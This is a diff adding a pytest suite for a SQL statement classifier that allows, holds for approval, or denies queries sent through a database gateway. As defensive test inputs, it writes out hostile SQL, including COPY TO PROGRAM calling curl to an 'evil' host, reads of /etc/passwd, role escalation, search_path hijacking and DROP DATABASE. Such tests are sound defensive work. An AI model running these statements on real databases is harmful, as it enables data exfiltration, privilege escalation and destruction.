@@ -1,0 +1,820 @@
+"""Unit tests for policy.classifier, using an in-memory function catalog.
+
+Each rule of the classifier gets at least one parametrized case; the
+fail-closed property (anything not proven read-only is not ALLOWED) is also
+exercised with hypothesis.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from policy.classifier import (
+    Classification,
+    Risk,
+    UnparsableStatement,
+    Verdict,
+    classify,
+)
+
+ALLOWED, HELD, DENIED = Verdict.ALLOWED, Verdict.HELD, Verdict.DENIED
+
+# A small stand-in for pg_proc: (schema, name) -> volatility.
+CATALOG_ROWS: Mapping[tuple[str, str], str] = {
+    ("pg_catalog", "now"): "s",
+    ("pg_catalog", "count"): "i",
+    ("pg_catalog", "sum"): "i",
+    ("pg_catalog", "lower"): "i",
+    ("pg_catalog", "upper"): "i",
+    ("pg_catalog", "coalesce"): "i",
+    ("pg_catalog", "row_number"): "i",
+    ("pg_catalog", "generate_series"): "i",
+    ("pg_catalog", "extract"): "s",
+    ("pg_catalog", "timezone"): "s",
+    ("pg_catalog", "current_setting"): "s",
+    ("pg_catalog", "nextval"): "v",
+    ("pg_catalog", "random"): "v",
+    ("pg_catalog", "pg_sleep"): "v",
+    ("pg_catalog", "pg_read_file"): "v",
+    ("pg_catalog", "set_config"): "v",
+    ("pg_catalog", "query_to_xml"): "s",
+    ("pg_catalog", "pg_terminate_backend"): "v",
+    ("public", "dblink"): "v",
+    ("public", "safe_fn"): "i",
+    ("reports", "monthly"): "s",
+    ("reports", "pg_read_file"): "s",
+    ("reports", "odd"): "x",
+}
+
+
+@dataclass(frozen=True)
+class FakeCatalog:
+    """FunctionCatalog over a dict; unqualified names search pg_catalog, public."""
+
+    rows: Mapping[tuple[str, str], str] = field(default_factory=lambda: CATALOG_ROWS)
+    search_path: tuple[str, ...] = ("pg_catalog", "public")
+
+    def volatility(self, schema: str | None, name: str) -> str | None:
+        """Most volatile match, mirroring SnapshotFunctionCatalog's contract."""
+        if schema is not None:
+            return self.rows.get((schema, name))
+        found = [self.rows[(s, name)] for s in self.search_path if (s, name) in self.rows]
+        return max(found, key="isv".index) if found else None
+
+
+@dataclass
+class RecordingCatalog:
+    """Records every lookup so tests can see what the classifier asked."""
+
+    calls: list[tuple[str | None, str]] = field(default_factory=list)
+
+    def volatility(self, schema: str | None, name: str) -> str | None:
+        """Answer 'immutable' for everything, remembering the question."""
+        self.calls.append((schema, name))
+        return "i"
+
+
+CATALOG = FakeCatalog()
+
+
+def run(sql: str) -> Classification:
+    """Classify with the fake catalog."""
+    return classify(sql, CATALOG)
+
+
+def case(
+    sql: str,
+    verdict: Verdict,
+    approvals: int | None = None,
+    risk: Risk | None = None,
+    reason: str | None = None,
+) -> pytest.ParameterSet:
+    """One parametrized expectation; None means "not checked"."""
+    return pytest.param(sql, verdict, approvals, risk, reason, id=sql[:60])
+
+
+def check(
+    sql: str,
+    verdict: Verdict,
+    approvals: int | None,
+    risk: Risk | None,
+    reason: str | None,
+) -> None:
+    """Assert a classification matches an expectation row."""
+    result = run(sql)
+    assert result.verdict is verdict, result.reasons
+    if approvals is not None:
+        assert result.approvals_required == approvals, result.reasons
+    if risk is not None:
+        assert result.risk is risk, result.reasons
+    if reason is not None:
+        assert any(reason in text for text in result.reasons), result.reasons
+
+
+# --------------------------------------------------------------------------
+# Reads
+# --------------------------------------------------------------------------
+
+READS = [
+    case("SELECT 1", ALLOWED, 0, Risk.LOW),
+    case("select * from patients", ALLOWED, 0, Risk.LOW),
+    case("select p.id, v.at from patients p join visits v on v.patient_id = p.id", ALLOWED),
+    case("select * from patients where id in (select patient_id from visits)", ALLOWED),
+    case("with recent as (select * from visits) select count(*) from recent", ALLOWED),
+    case("with recursive n(i) as (select 1 union all select i + 1 from n where i < 5) select * from n", ALLOWED),
+    case("select id from a union select id from b except select id from c", ALLOWED),
+    case("select id from a intersect all select id from b", ALLOWED),
+    case("values (1, 'a'), (2, 'b')", ALLOWED),
+    case("table patients", ALLOWED),
+    case("select now(), count(*), lower(name) from patients group by name", ALLOWED),
+    case("select row_number() over (partition by lower(a) order by upper(b)) from t", ALLOWED),
+    case("select sum(x) filter (where lower(y) = 'a') from t having count(*) > 1", ALLOWED),
+    case("select * from t, lateral (select lower(t.a)) s", ALLOWED),
+    case("select * from generate_series(1, 3)", ALLOWED),
+    case("select current_date, current_user, current_timestamp, localtime", ALLOWED),
+    case("select extract(year from now()), 'x' at time zone 'utc'", ALLOWED),
+    case("select coalesce(a, 1) from t order by lower(b) limit 5 offset 1", ALLOWED),
+    case("select pg_catalog.lower('X')", ALLOWED),
+    case("select safe_fn()", ALLOWED),
+    case("select reports.monthly()", ALLOWED),
+    case("select current_setting('timezone')", ALLOWED),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), READS)
+def test_reads(sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None) -> None:
+    """Reads calling only immutable/stable functions run at once."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+UNSAFE_FUNCTIONS = [
+    case("select nextval('s')", HELD, 1, Risk.MODERATE, "volatile function nextval() may have side effects"),
+    case("select random()", HELD, 1, Risk.MODERATE, "volatile function random()"),
+    case("select pg_sleep(10)", HELD, 1, Risk.MODERATE, "volatile function pg_sleep()"),
+    case("select no_such_fn()", HELD, 1, Risk.MODERATE, "unknown function no_such_fn()"),
+    case("select other.lower('x')", HELD, 1, None, "unknown function other.lower()"),
+    case("select reports.odd()", HELD, 1, None, "unrecognised volatility"),
+    case("select * from t where id = (select nextval('s'))", HELD),
+    case("select * from t order by random()", HELD),
+    case("select a from t group by a having count(*) > random()", HELD),
+    case("select row_number() over (order by random()) from t", HELD),
+    case("select * from t window w as (partition by random())", HELD),
+    case("with x as (select nextval('s')) select * from x", HELD),
+    case("select * from nextval('s')", HELD),
+    case("select * from rows from (generate_series(1, 2), nextval('s')) r", HELD),
+    case("select * from t, lateral (select random()) r", HELD),
+    case("values (random())", HELD),
+    case("select * from t limit (select nextval('s'))", HELD),
+    case("select array[random()]", HELD),
+    case("select case when random() > 0.5 then 1 end", HELD),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), UNSAFE_FUNCTIONS)
+def test_volatile_and_unknown_functions_are_held(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """Any volatile or unknown call anywhere in a read holds it."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+DENIED_FUNCTIONS = [
+    case("select pg_read_file('/etc/passwd')", DENIED, 0, Risk.CRITICAL, "function pg_read_file() is denied"),
+    case("select pg_catalog.pg_read_file('/etc/passwd')", DENIED),
+    case("select * from t where x = (select pg_read_file('f'))", DENIED),
+    case("with f as (select pg_read_file('f')) select * from f", DENIED),
+    case("select * from t where pg_read_file('f') is not null", DENIED),
+    case("select * from t order by pg_read_file('f')", DENIED),
+    case("select * from pg_read_file('f')", DENIED),
+    case("select * from t, lateral (select pg_ls_dir('.')) d", DENIED),
+    case("select set_config('search_path', 'evil', false)", DENIED, None, None, "function set_config() is denied"),
+    case("select * from t where a in (select set_config('x', 'y', true))", DENIED),
+    case("select query_to_xml('delete from t', true, true, '')", DENIED, None, None, "query_to_xml() is denied"),
+    case("with q as (select query_to_xml('select 1', true, true, '')) select * from q", DENIED),
+    case("select public.dblink('host=x', 'delete from t')", DENIED),
+    case("select ext.dblink_exec('delete from t')", DENIED),
+    case("select pg_terminate_backend(123)", DENIED),
+    case("select lo_export(1, '/tmp/x')", DENIED),
+    case("select pg_replication_origin_create('x')", DENIED),
+    case("select pg_create_logical_replication_slot('s', 'p')", DENIED),
+    case("select ts_stat('select v from t')", DENIED),
+    case("delete from t where a = pg_read_file('f')", DENIED),
+    case("insert into t values (pg_read_file('f'))", DENIED),
+    case("update t set a = 1 returning pg_read_file('f')", DENIED),
+    case("create table t (a text default pg_read_file('f'))", DENIED),
+    case("create view v as select pg_read_file('f')", DENIED),
+    case("explain select pg_read_file('f')", DENIED),
+    case("copy (select pg_read_file('f')) to stdout", DENIED),
+    case("declare c cursor for select pg_read_file('f')", DENIED),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), DENIED_FUNCTIONS)
+def test_denylisted_functions_are_denied_anywhere(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """Denylisted functions deny the request however deeply they are nested."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+def test_denylist_ignores_same_name_in_user_schema() -> None:
+    """reports.pg_read_file is the user's own stable function, not the built-in."""
+    result = run("select reports.pg_read_file()")
+    assert result.verdict is ALLOWED
+
+
+SELECT_WRITES = [
+    case(
+        "with d as (delete from t where id = 1 returning *) select * from d",
+        HELD,
+        1,
+        Risk.MODERATE,
+        'writable CTE "d" runs DELETE',
+    ),
+    case(
+        "with d as (delete from t returning *) select * from d",
+        HELD,
+        2,
+        Risk.HIGH,
+        "DELETE without WHERE affects every row",
+    ),
+    case("with i as (insert into t values (1) returning id) select * from i", HELD, 1),
+    case("with u as (update t set a = 1 where b = 2 returning *) select count(*) from u", HELD),
+    case("select * from t for update", HELD, 1, Risk.MODERATE, "SELECT ... FOR UPDATE takes row locks"),
+    case("select * from t for share", HELD, 1, None, "FOR SHARE"),
+    case("select * from t for no key update of t nowait", HELD, None, None, "FOR NO KEY UPDATE"),
+    case("select * from t where id in (select id from u for key share)", HELD),
+    case("select * into new_table from t", HELD, 2, Risk.HIGH, "SELECT INTO creates a table"),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), SELECT_WRITES)
+def test_selects_that_write_or_lock_are_held(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """Writable CTEs, row locks and SELECT INTO are not reads."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+# --------------------------------------------------------------------------
+# Writes and schema changes
+# --------------------------------------------------------------------------
+
+WRITES = [
+    case("delete from t where id = 1", HELD, 1, Risk.MODERATE, "DELETE modifies data"),
+    case("delete from t", HELD, 2, Risk.HIGH, "DELETE without WHERE affects every row"),
+    case("update t set a = 1 where id = 2", HELD, 1, Risk.MODERATE, "UPDATE modifies data"),
+    case("update t set a = 1", HELD, 2, Risk.HIGH, "UPDATE without WHERE affects every row"),
+    case("insert into t (a) values (1)", HELD, 1, Risk.MODERATE, "INSERT modifies data"),
+    case("insert into t select * from u", HELD, 1),
+    case(
+        "merge into t using s on t.id = s.id when matched then update set a = s.a",
+        HELD,
+        1,
+        Risk.MODERATE,
+        "MERGE modifies data",
+    ),
+    case("truncate t", HELD, 2, Risk.HIGH, "TRUNCATE"),
+    case("truncate table a, b cascade", HELD, 2, Risk.HIGH),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), WRITES)
+def test_data_changes_are_held(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """DML is held; unrestricted UPDATE/DELETE and TRUNCATE need two approvers."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+DDL = [
+    case("create table t (id int primary key)", HELD, 2, Risk.HIGH, "CREATE TABLE"),
+    case("create temp table t (id int)", HELD, 2),
+    case("alter table t add column b int", HELD, 2, Risk.HIGH, "ALTER TABLE"),
+    case("alter table t rename to u", HELD, 2, None, "RENAME"),
+    case("alter table t rename column a to b", HELD, 2),
+    case("drop table t", HELD, 2, Risk.HIGH, "DROP TABLE"),
+    case("drop index i", HELD, 2),
+    case("create index on t (a)", HELD, 2, None, "CREATE INDEX"),
+    case("create view v as select * from t", HELD, 2, None, "CREATE VIEW"),
+    case("create materialized view m as select * from t", HELD, 2, None, "CREATE MATERIALIZED VIEW"),
+    case("refresh materialized view m", HELD, 2, None, "REFRESH MATERIALIZED VIEW"),
+    case("create table t2 as select * from t", HELD, 2, None, "CREATE TABLE AS"),
+    case("create sequence s", HELD, 2),
+    case("alter sequence s restart", HELD, 2),
+    case("create function f() returns int language sql as 'select 1'", HELD, 2, None, "CREATE FUNCTION"),
+    case("create procedure p() language sql as 'select 1'", HELD, 2, None, "CREATE PROCEDURE"),
+    case("create trigger tr before insert on t for each row execute function f()", HELD, 2),
+    case("create type mood as enum ('ok', 'sad')", HELD, 2),
+    case("create domain d as int check (value > 0)", HELD, 2),
+    case("create schema s", HELD, 2, None, "CREATE SCHEMA"),
+    case("comment on table t is 'patients'", HELD, 2, None, "COMMENT"),
+    case("create policy p on t using (true)", HELD, 2),
+    case("alter table t alter column a set default random()", HELD, 2),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), DDL)
+def test_schema_changes_are_held_for_two(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """DDL is held with two approvals."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+DENIED_STATEMENTS = [
+    case("drop database phi", DENIED, 0, Risk.CRITICAL, "DROP DATABASE"),
+    case("create database x", DENIED),
+    case("alter database x set work_mem = '1GB'", DENIED),
+    case("alter database x rename to y", DENIED),
+    case("alter system set log_statement = 'none'", DENIED, 0, Risk.CRITICAL, "ALTER SYSTEM"),
+    case("create role r", DENIED, None, None, "CREATE ROLE"),
+    case("create user u with password 'x'", DENIED),
+    case("create group g", DENIED),
+    case("alter role r with superuser", DENIED),
+    case("alter role r set search_path = evil", DENIED),
+    case("drop role r", DENIED),
+    case("grant admin to agent", DENIED),
+    case("revoke admin from agent", DENIED),
+    case("grant select on patients to public", DENIED, None, None, "GRANT"),
+    case("revoke select on patients from agent", DENIED),
+    case("alter default privileges grant select on tables to agent", DENIED),
+    case("reassign owned by a to b", DENIED),
+    case("drop owned by a", DENIED),
+    case("create extension dblink", DENIED, None, None, "CREATE EXTENSION"),
+    case("alter extension dblink update", DENIED),
+    case("drop extension dblink", DENIED),
+    case("load 'auto_explain'", DENIED),
+    case("create tablespace ts location '/tmp'", DENIED),
+    case("drop tablespace ts", DENIED),
+    case("create language plperlu", DENIED),
+    case("create event trigger e on ddl_command_start execute function f()", DENIED),
+    case("create server s foreign data wrapper postgres_fdw", DENIED),
+    case("create foreign data wrapper w", DENIED),
+    case("create user mapping for agent server s options (user 'x')", DENIED),
+    case("import foreign schema public from server s into local", DENIED),
+    case("create subscription s connection 'x' publication p", DENIED),
+    case("alter subscription s disable", DENIED),
+    case("create publication p for all tables", DENIED),
+    case("alter publication p add table t", DENIED),
+    case("security label on table t is 'secret'", DENIED),
+    case("checkpoint", DENIED),
+    case("prepare transaction 'tx'", DENIED),
+    case("commit prepared 'tx'", DENIED),
+    case("rollback prepared 'tx'", DENIED),
+    case("copy t to program 'curl http://evil'", DENIED, 0, Risk.CRITICAL, "PROGRAM"),
+    case("copy t from program 'cat /etc/passwd'", DENIED, 0, Risk.CRITICAL, "PROGRAM"),
+    case("copy t to '/tmp/patients.csv'", DENIED, 0, Risk.CRITICAL, "server file"),
+    case("copy t from '/etc/passwd'", DENIED, None, None, "server file"),
+    case("set role admin", DENIED, 0, Risk.CRITICAL, "ROLE"),
+    case("set session authorization admin", DENIED, None, None, "SESSION AUTHORIZATION"),
+    case("reset role", DENIED),
+    case("reset session authorization", DENIED),
+    case("set local role admin", DENIED),
+    case("prepare q as select * from t", DENIED, None, None, "PREPARE"),
+    case("execute q", DENIED, None, None, "EXECUTE"),
+    case("explain execute q", DENIED),
+    case("alter table t owner to bob", DENIED, None, None, "OWNER TO"),
+    case("alter view v owner to bob", DENIED),
+    case("alter function f() owner to bob", DENIED, None, None, "OWNER TO"),
+    case("alter schema s owner to bob", DENIED),
+    case("create schema s create table t (a int) grant select on t to bob", DENIED),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), DENIED_STATEMENTS)
+def test_dangerous_statements_are_denied(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """Server-level, privilege and identity changes can never be approved."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+REVIEWED = [
+    case("copy t to stdout", HELD, 1, Risk.MODERATE, "COPY is held for review"),
+    case("copy t from stdin", HELD, 1, Risk.MODERATE, "COPY is held for review"),
+    case("copy (select * from t) to stdout with (format csv)", HELD, 1),
+    case("copy (delete from t returning *) to stdout", HELD, 2, Risk.HIGH),
+    case("do $$ begin delete from t; end $$", HELD, 2, Risk.HIGH, "DO runs procedural code that cannot be inspected"),
+    case("call archive_patients()", HELD, 2, Risk.HIGH, "CALL"),
+    case("lock table t in access exclusive mode", HELD, 1, Risk.MODERATE),
+    case("vacuum t", HELD, 1, Risk.MODERATE),
+    case("vacuum full", HELD, 1),
+    case("analyze t", HELD, 1),
+    case("cluster t using i", HELD, 1),
+    case("reindex table t", HELD, 1),
+    case("notify channel, 'x'", HELD, 1),
+    case("listen channel", HELD, 1),
+    case("unlisten *", HELD, 1),
+    case(
+        "set constraints all deferred",
+        HELD,
+        1,
+        Risk.MODERATE,
+        "statement type SET CONSTRAINTS is not on the read-only allowlist",
+    ),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), REVIEWED)
+def test_other_statements_are_held(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """COPY via the client, procedural code, maintenance and the unknown are held."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+# --------------------------------------------------------------------------
+# EXPLAIN, cursors, session statements
+# --------------------------------------------------------------------------
+
+EXPLAINS = [
+    case("explain select * from t", ALLOWED, 0, Risk.LOW),
+    case("explain delete from t", ALLOWED, 0, Risk.LOW),
+    case("explain update t set a = 1 where id = 2", ALLOWED),
+    case("explain insert into t values (1)", ALLOWED),
+    case("explain create table t2 as select * from t", ALLOWED),
+    case("explain select nextval('s')", ALLOWED),
+    case("explain select * from t for update", ALLOWED),
+    case("explain (format json, costs off) delete from t", ALLOWED),
+    case("explain (analyze off) delete from t", ALLOWED),
+    case("explain (analyze false) delete from t", ALLOWED),
+    case("explain select no_such_fn()", HELD, 1, None, "unknown function no_such_fn()"),
+    case("explain analyze select * from t", ALLOWED, 0, Risk.LOW),
+    case("explain analyze delete from t", HELD, 2, Risk.HIGH, "DELETE without WHERE affects every row"),
+    case("explain analyze delete from t where id = 1", HELD, 1, Risk.MODERATE),
+    case("explain (analyze) select nextval('s')", HELD, 1),
+    case("explain (analyze true, buffers) update t set a = 1 where b = 2", HELD, 1),
+    case("explain (analyze 1) delete from t where id = 1", HELD, 1),
+    case("explain select pg_read_file('f')", DENIED),
+    case("explain analyze select set_config('a', 'b', false)", DENIED),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), EXPLAINS)
+def test_explain(sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None) -> None:
+    """Plain EXPLAIN only plans; EXPLAIN ANALYZE is judged like its statement."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+SESSION = [
+    case("show search_path", ALLOWED, 0, Risk.LOW),
+    case("show all", ALLOWED),
+    case("discard all", ALLOWED),
+    case("deallocate all", ALLOWED),
+    case("fetch 10 from c", ALLOWED),
+    case("move next in c", ALLOWED),
+    case("close c", ALLOWED),
+    case("close all", ALLOWED),
+    case("declare c cursor for select * from t", ALLOWED, 0, Risk.LOW),
+    case("declare c cursor with hold for select lower(a) from t", ALLOWED),
+    case("declare c cursor for select nextval('s')", HELD, 1),
+    case("declare c cursor for select * from t for update", HELD, 1),
+    case("set statement_timeout = 5000", ALLOWED, 0, Risk.LOW),
+    case("SET Statement_Timeout TO '5s'", ALLOWED),
+    case("set local lock_timeout = '1s'", ALLOWED),
+    case("set statement_timeout to default", ALLOWED),
+    case("reset statement_timeout", ALLOWED),
+    case("reset all", ALLOWED),
+    case("set time zone 'UTC'", ALLOWED),
+    case("set names 'UTF8'", ALLOWED),
+    case("set schema 'public'", ALLOWED),
+    case("set transaction isolation level serializable", ALLOWED),
+    case("set transaction read only", ALLOWED),
+    case("set session characteristics as transaction read only", ALLOWED),
+    case("set work_mem = '1GB'", DENIED, 0, Risk.CRITICAL, "setting work_mem cannot be changed through the gateway"),
+    case("set some_other_guc = 1", DENIED, None, None, "setting some_other_guc"),
+    case("set myapp.tenant = 'x'", DENIED),
+    case("set session_replication_role = replica", DENIED),
+    case("reset work_mem", DENIED),
+    case("set xmloption = content", DENIED),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), SESSION)
+def test_session_statements(
+    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
+) -> None:
+    """Cursor, SHOW and allowlisted SET statements run; other settings are denied."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+@pytest.mark.parametrize(
+    "setting",
+    [
+        "application_name",
+        "client_encoding",
+        "DateStyle",
+        "IntervalStyle",
+        "TimeZone",
+        "extra_float_digits",
+        "statement_timeout",
+        "lock_timeout",
+        "idle_in_transaction_session_timeout",
+        "bytea_output",
+        "client_min_messages",
+        "standard_conforming_strings",
+        "search_path",
+    ],
+)
+def test_every_allowlisted_setting_may_be_set(setting: str) -> None:
+    """The SET allowlist is case-insensitive, as PostgreSQL setting names are."""
+    assert run(f"set {setting} = 'x'").verdict is ALLOWED
+    assert run(f"set \"{setting.upper()}\" = 'x'").verdict is ALLOWED
+
+
+@pytest.mark.parametrize(
+    ("sql", "tag"),
+    [
+        ("begin", "BEGIN"),
+        ("begin isolation level repeatable read", "BEGIN"),
+        ("start transaction read only", "START TRANSACTION"),
+        ("commit", "COMMIT"),
+        ("end", "COMMIT"),
+        ("rollback", "ROLLBACK"),
+        ("abort", "ROLLBACK"),
+        ("savepoint a", "SAVEPOINT"),
+        ("release savepoint a", "RELEASE"),
+        ("rollback to savepoint a", "ROLLBACK TO"),
+    ],
+)
+def test_transaction_control_alone_is_allowed(sql: str, tag: str) -> None:
+    """A lone transaction-control statement is allowed and flagged as such."""
+    result = run(sql)
+    assert result.verdict is ALLOWED
+    assert result.risk is Risk.LOW
+    assert result.approvals_required == 0
+    assert result.is_transaction_control is True
+    assert result.statement_types == (tag,)
+
+
+def test_two_phase_commit_is_not_transaction_control() -> None:
+    """PREPARE TRANSACTION is denied and not treated as ordinary control."""
+    result = run("prepare transaction 'x'")
+    assert result.verdict is DENIED
+    assert result.is_transaction_control is False
+
+
+@pytest.mark.parametrize("sql", ["select 1", "delete from t", "show all"])
+def test_other_statements_are_not_transaction_control(sql: str) -> None:
+    """is_transaction_control is only set for transaction statements."""
+    assert run(sql).is_transaction_control is False
+
+
+# --------------------------------------------------------------------------
+# Batches
+# --------------------------------------------------------------------------
+
+BATCHES = [
+    case("SELECT 1; SELECT 2", HELD, 1, Risk.LOW, "multiple statements in one request"),
+    case("select * from t; delete from t where id = 1", HELD, 1, Risk.MODERATE),
+    case("insert into t values (1); delete from t", HELD, 2, Risk.HIGH, "DELETE without WHERE affects every row"),
+    case("select 1; create table t (a int)", HELD, 2, Risk.HIGH),
+    case("SELECT 1; DROP DATABASE x", DENIED, 0, Risk.CRITICAL, "DROP DATABASE"),
+    case("select 1; select pg_read_file('f')", DENIED, 0, Risk.CRITICAL),
+    case(
+        "BEGIN; DELETE FROM t; COMMIT",
+        DENIED,
+        0,
+        Risk.CRITICAL,
+        "transaction control inside a statement batch is not allowed",
+    ),
+    case("SELECT 1; COMMIT", DENIED, 0, Risk.CRITICAL, "transaction control"),
+    case("savepoint a; select 1", DENIED),
+    case("select 1;;select 2;", HELD, 1),
+]
+
+
+@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), BATCHES)
+def test_batches(sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None) -> None:
+    """Batches are never allowed, and never mix with transaction control."""
+    check(sql, verdict, approvals, risk, reason)
+
+
+def test_batch_reasons_list_each_statements_concerns() -> None:
+    """A held batch explains itself and every statement that needs approval."""
+    result = run("select nextval('s'); delete from t where id = 1")
+    assert result.reasons == (
+        "multiple statements in one request",
+        "volatile function nextval() may have side effects",
+        "DELETE modifies data",
+    )
+    assert result.statement_types == ("SELECT", "DELETE")
+    assert result.is_transaction_control is False
+
+
+def test_denied_batch_keeps_all_reasons() -> None:
+    """A denied batch still shows the held statements' reasons."""
+    result = run("delete from t; drop database x")
+    assert result.reasons[0] == "multiple statements in one request"
+    assert "DELETE without WHERE affects every row" in result.reasons
+    assert any("DROP DATABASE" in reason for reason in result.reasons)
+
+
+# --------------------------------------------------------------------------
+# Unparsable input
+# --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "",
+        "   \n\t ",
+        "-- just a comment",
+        "/* block */",
+        ";",
+        ";;  ;",
+        "selec 1",
+        "select from where",
+        "select 'unterminated",
+        "select 1\x00; drop database x",
+        "select '\ud800'",
+        "select " + "+".join(["1"] * 5000),
+        " union ".join(["select 1"] * 30000),
+    ],
+    ids=lambda sql: repr(sql[:30]),
+)
+def test_unparsable_input_raises(sql: str) -> None:
+    """Syntax errors, empty input, NULs and absurd nesting are rejected."""
+    with pytest.raises(UnparsableStatement):
+        run(sql)
+
+
+def test_unparsable_message_comes_from_the_parser() -> None:
+    """The message is PostgreSQL's own, with the position it reported."""
+    with pytest.raises(UnparsableStatement) as caught:
+        run("select 1 frm t")
+    assert 'syntax error at or near "t"' in str(caught.value)
+    assert caught.value.position == 13
+    assert isinstance(caught.value, ValueError)
+
+
+# --------------------------------------------------------------------------
+# Reported details
+# --------------------------------------------------------------------------
+
+
+def test_relations_are_lower_cased_qualified_sorted_and_exclude_ctes() -> None:
+    """Relations appear as written (lower-cased); CTE names are not relations."""
+    result = run(
+        'with recent as (select * from "Visits") '
+        "select * from Public.Patients p join recent r on r.pid = p.id "
+        "join public.patients q on q.id = p.id, audit.log"
+    )
+    assert result.relations == ("audit.log", "public.patients", "visits")
+
+
+def test_cte_shadowing_a_table_is_scoped() -> None:
+    """Inside a non-recursive CTE its own name still means the real table."""
+    result = run("with patients as (select * from patients) select * from patients")
+    assert result.relations == ("patients",)
+    nested = run("select * from (with x as (select 1) select * from x) s, x")
+    assert nested.relations == ("x",)
+
+
+def test_recursive_cte_does_not_count_itself() -> None:
+    """A recursive CTE's self-reference is not a relation."""
+    result = run("with recursive r(n) as (select 1 union all select n + 1 from r where n < 3) select * from r")
+    assert result.relations == ()
+
+
+def test_dml_target_is_a_relation_even_when_a_cte_has_its_name() -> None:
+    """INSERT INTO x always writes the real table x."""
+    result = run("with t as (select 1 as a) insert into t select a from t")
+    assert result.relations == ("t",)
+
+
+def test_relations_of_writes_and_ddl() -> None:
+    """Targets of DML, COPY, TRUNCATE and DROP are reported too."""
+    assert run("delete from phi.notes where id = 1").relations == ("phi.notes",)
+    assert run("truncate a, b.c").relations == ("a", "b.c")
+    assert run("drop table if exists public.t, u").relations == ("public.t", "u")
+    assert run("copy t to stdout").relations == ("t",)
+
+
+def test_lock_targets_are_not_relations() -> None:
+    """FOR UPDATE OF names aliases, not relations."""
+    assert run("select * from patients p for update of p").relations == ("patients",)
+
+
+def test_functions_are_reported_qualified_when_written() -> None:
+    """Every call is listed once, sorted, qualified only when written so."""
+    result = run("select lower(a), pg_catalog.lower(b), count(*), extract(year from now()) from t where lower(c) = 'x'")
+    assert result.functions == ("count", "extract", "lower", "now", "pg_catalog.lower")
+
+
+def test_catalog_is_asked_with_the_written_schema() -> None:
+    """Qualified calls are looked up in their schema, others unqualified, once each."""
+    catalog = RecordingCatalog()
+    classify("select lower(a), lower(b), reports.monthly(), pg_catalog.now()", catalog)
+    assert catalog.calls == [(None, "lower"), ("reports", "monthly"), ("pg_catalog", "now")]
+
+
+def test_statement_types() -> None:
+    """One command tag per statement."""
+    assert run("select 1").statement_types == ("SELECT",)
+    assert run("delete from t").statement_types == ("DELETE",)
+    assert run("create table t (a int)").statement_types == ("CREATE TABLE",)
+    assert run("begin").statement_types == ("BEGIN",)
+    assert run("drop view v").statement_types == ("DROP VIEW",)
+    assert run("create materialized view m as select 1").statement_types == ("CREATE MATERIALIZED VIEW",)
+    assert run("select 1 into t").statement_types == ("SELECT INTO",)
+    assert run("explain select 1").statement_types == ("EXPLAIN",)
+
+
+def test_fingerprint_ignores_case_and_whitespace() -> None:
+    """Equivalent statements share a fingerprint; different ones do not."""
+    assert run("select 1").fingerprint == run("SELECT  1").fingerprint
+    assert run("select 1").fingerprint != run("select * from t").fingerprint
+
+
+def test_reasons_are_deduplicated_in_order() -> None:
+    """Repeated findings are reported once, in the order found."""
+    result = run("select nextval('a'), random(), nextval('b')")
+    assert result.reasons == (
+        "volatile function nextval() may have side effects",
+        "volatile function random() may have side effects",
+    )
+
+
+def test_allowed_and_denied_need_no_approvals() -> None:
+    """approvals_required is zero unless the verdict is HELD."""
+    assert run("select 1").approvals_required == 0
+    assert run("drop database x").approvals_required == 0
+
+
+def test_denied_findings_outrank_held_ones_in_one_statement() -> None:
+    """A write that also calls a denylisted function is denied, with both reasons."""
+    result = run("delete from t where id = 1 and pg_read_file('x') <> ''")
+    assert result.verdict is DENIED
+    assert result.risk is Risk.CRITICAL
+    assert result.reasons[0] == "DELETE modifies data"
+    assert "function pg_read_file() is denied" in result.reasons[1]
+
+
+def test_classification_is_deterministic_and_immutable() -> None:
+    """Same input, same answer; the result cannot be altered."""
+    sql = "with d as (delete from t returning *) select nextval('s'), x() from d, u"
+    assert run(sql) == run(sql)
+    with pytest.raises(AttributeError):
+        run(sql).verdict = ALLOWED  # type: ignore[misc]
+
+
+# --------------------------------------------------------------------------
+# Properties
+# --------------------------------------------------------------------------
+
+
